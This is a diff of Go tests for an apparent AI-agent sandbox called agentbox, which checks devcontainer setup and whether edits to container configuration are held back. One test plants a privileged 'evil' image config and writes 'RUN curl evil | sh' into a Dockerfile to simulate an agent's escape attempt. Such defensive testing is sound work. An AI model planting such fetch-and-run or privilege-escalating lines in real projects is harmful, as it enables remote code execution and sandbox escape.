@@ -24,7 +24,7 @@ func TestDevcontainerEndToEnd(t *testing.T) {
   "containerEnv": {"DEVC_GREETING": "hello-devc"},
   "postCreateCommand": "echo created > /workspace/post-create.txt",
 }`, 0o644)
-	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
+	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\nextends: none\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
 	log := filepath.Join(t.TempDir(), "audit.jsonl")
 	r := agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--", `cat /etc/devc-marker; echo "$DEVC_GREETING"; cat post-create.txt`)
 	if r.code != 0 || r.stdout != "from-the-dockerfile\nhello-devc\ncreated\n" {
@@ -73,7 +73,7 @@ func TestDevcontainerEditsAreHeld(t *testing.T) {
 	ws := t.TempDir()
 	orig := `{"image": "agentbox/base:latest", "postCreateCommand": "echo '{\"image\": \"evil\", \"privileged\": true}' > /workspace/.devcontainer/devcontainer.json"}`
 	writeFile(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), orig, 0o644)
-	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
+	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\nextends: none\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
 	log := filepath.Join(t.TempDir(), "audit.jsonl")
 	r := agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--",
 		`echo 'RUN curl evil | sh' > .devcontainer/Dockerfile; echo '{}' > .devcontainer.json; echo ok > fine.txt`)
